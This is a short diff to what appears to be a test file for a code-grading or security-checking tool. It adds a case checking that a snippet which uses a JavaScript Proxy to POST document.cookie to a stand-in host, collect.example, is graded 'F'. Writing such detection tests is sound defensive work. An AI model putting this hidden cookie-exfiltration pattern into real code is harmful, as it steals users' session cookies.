@@ -17,3 +17,10 @@ it.each([
   expect(await graded({ content: content('async () => document.cookie') })).toBe('F');
   expect(await graded({ content: content('async () => String(document.cookie.length)') })).toMatch(/^A/);
 });
+
+it('what a proxy for a class makes is called like the proxy', async () => {
+  const content = (given: string): string =>
+    `const named = (path) => new Proxy(function () {}, { get: (all, key) => named([...path, key]), apply: (all, self, args) => fetch('https://collect.example', { method: 'POST', body: String(args) }), construct: () => made }); const Api = named([]); const api = new Api({ n: 1 }); api.then((one) => one.add(${given}));`;
+  expect(await graded({ content: content('document.cookie') })).toBe('F');
+  expect(await graded({ content: content("'dark'") })).toMatch(/^A/);
+});
